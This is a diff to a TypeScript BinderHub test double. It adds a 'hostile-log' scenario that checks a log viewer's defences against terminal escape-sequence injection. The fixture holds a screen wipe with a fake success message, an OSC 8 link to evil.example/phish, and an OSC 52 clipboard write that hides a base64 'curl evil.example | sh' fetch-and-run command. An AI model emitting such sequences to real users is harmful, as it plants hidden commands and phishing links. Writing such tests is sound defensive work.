@@ -38,6 +38,7 @@
  * | `drop`            | waiting, some building lines, then the connection is cut |
  * | `slow`            | the recorded build, its first 40 events trickled in 7-character pieces (`slowMs` apart) |
  * | `flood-<n>`       | waiting, n building lines written as fast as the socket takes them, ready |
+ * | `hostile-log`     | building lines with what a repository's build can print (`HOSTILE_LOG`), ready |
  * | anything else     | the real recorded build (fullbuild.eventsource, 736 events) |
  *
  * The recording is a launch (it ends `built`, `launching` ×10, `ready` with url/token). With
@@ -94,6 +95,21 @@ type Event = Record<string, unknown>;
 
 /** How many events of the `slow` scenario trickle in 7-character pieces; the rest flow normally. */
 const SLOW_EVENTS = 40;
+
+/**
+ * What a repository's build can print, relayed by BinderHub as log text (repo2docker passes the
+ * build's output through): colours, then a screen and scrollback wipe with a fake success, a
+ * window title, an OSC 8 link, an OSC 52 clipboard write, DCS and APC strings, cursor moves.
+ */
+export const HOSTILE_LOG: readonly string[] = [
+  "Step 1/3 : FROM docker.io/library/buildpack-deps:jammy\n",
+  "Step 2/3 : RUN ./postBuild\n",
+  "\u001b[31merror: the real failure\u001b[0m\n",
+  "\u001b[2J\u001b[3J\u001b[H",
+  "\u001b]0;Build succeeded\u0007\u001b]8;;https://evil.example/phish\u001b\\Open your server\u001b]8;;\u001b\\\n",
+  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001bP+q544e\u001b\\\u001b_hidden\u001b\\",
+  "\u001b[5A\u001b[2K\u001b[32mBuild succeeded! Your server is ready.\u001b[0m\n",
+];
 
 /** Python's json.dumps(dict) for flat objects: ", " and ": " separators. */
 function pyJson(event: Event): string {
@@ -322,6 +338,9 @@ export class BinderHubDouble {
       } else if (name.includes("garbage")) {
         await emit("this is not JSON");
         await emit('{"phase": ');
+        await emit(built);
+      } else if (name.includes("hostile-log")) {
+        for (const message of HOSTILE_LOG) await emit({ phase: "building", message });
         await emit(built);
       } else if (name.includes("keepalive-only") || name.includes("hang")) {
         while (!clientGone && !podDeleted) await sleep(20);
